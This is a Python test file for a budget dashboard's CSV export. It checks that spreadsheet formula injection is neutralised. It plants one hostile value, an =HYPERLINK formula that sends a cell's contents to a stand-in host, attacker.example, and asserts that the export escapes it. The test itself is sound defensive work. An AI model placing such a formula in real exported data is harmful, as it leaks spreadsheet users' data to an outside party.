"""A dashboard table downloaded as CSV (made for Excel: it starts with a byte-order mark)
never carries a cell a spreadsheet runs as a formula: codes and names come from the
published tables, which any agency writes."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
from fastapi.testclient import TestClient

from khlang.catalog import Catalog
from tests.web.conftest import make_app
from tests.web.fixture import OPERATOR, budget_rows, dataset_folder

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"เปิด")'


@pytest.mark.slow  # a publish of the budget lines and the area-budget store's update
def test_a_formula_in_the_data_is_text_in_the_download(web_home, tmp_path) -> None:
    home = tmp_path / "home"
    shutil.copytree(web_home, home)
    folder = dataset_folder(tmp_path / "folders", "chiang-mai-budget-allocation")
    schema_path = folder / "schemas" / "budget-lines.json"
    schema = json.loads(schema_path.read_text(encoding="utf-8"))
    for field in schema["fields"]:  # the agency's own schema: no list of budget types
        if field["name"] == "budget_type":
            field.pop("constraints", None)
            field.pop("categories", None)
    schema_path.write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")
    rows = budget_rows()
    for row in rows[-3:]:  # the latest year, which the dashboard opens on
        row["budget_type"] = FORMULA
    with (folder / "data" / "budget-lines.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with Catalog.open(home) as catalog:
        catalog.publish(folder, actor=OPERATOR, change_note="an agency's hostile budget type")

    with TestClient(make_app(home), base_url="http://testserver") as client:
        answer = client.get("/dashboard/table.csv", params={"panel": "by-budget-type"})
    assert answer.status_code == 200
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8").removeprefix("\ufeff"))))
    cells = [cell for row in table for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
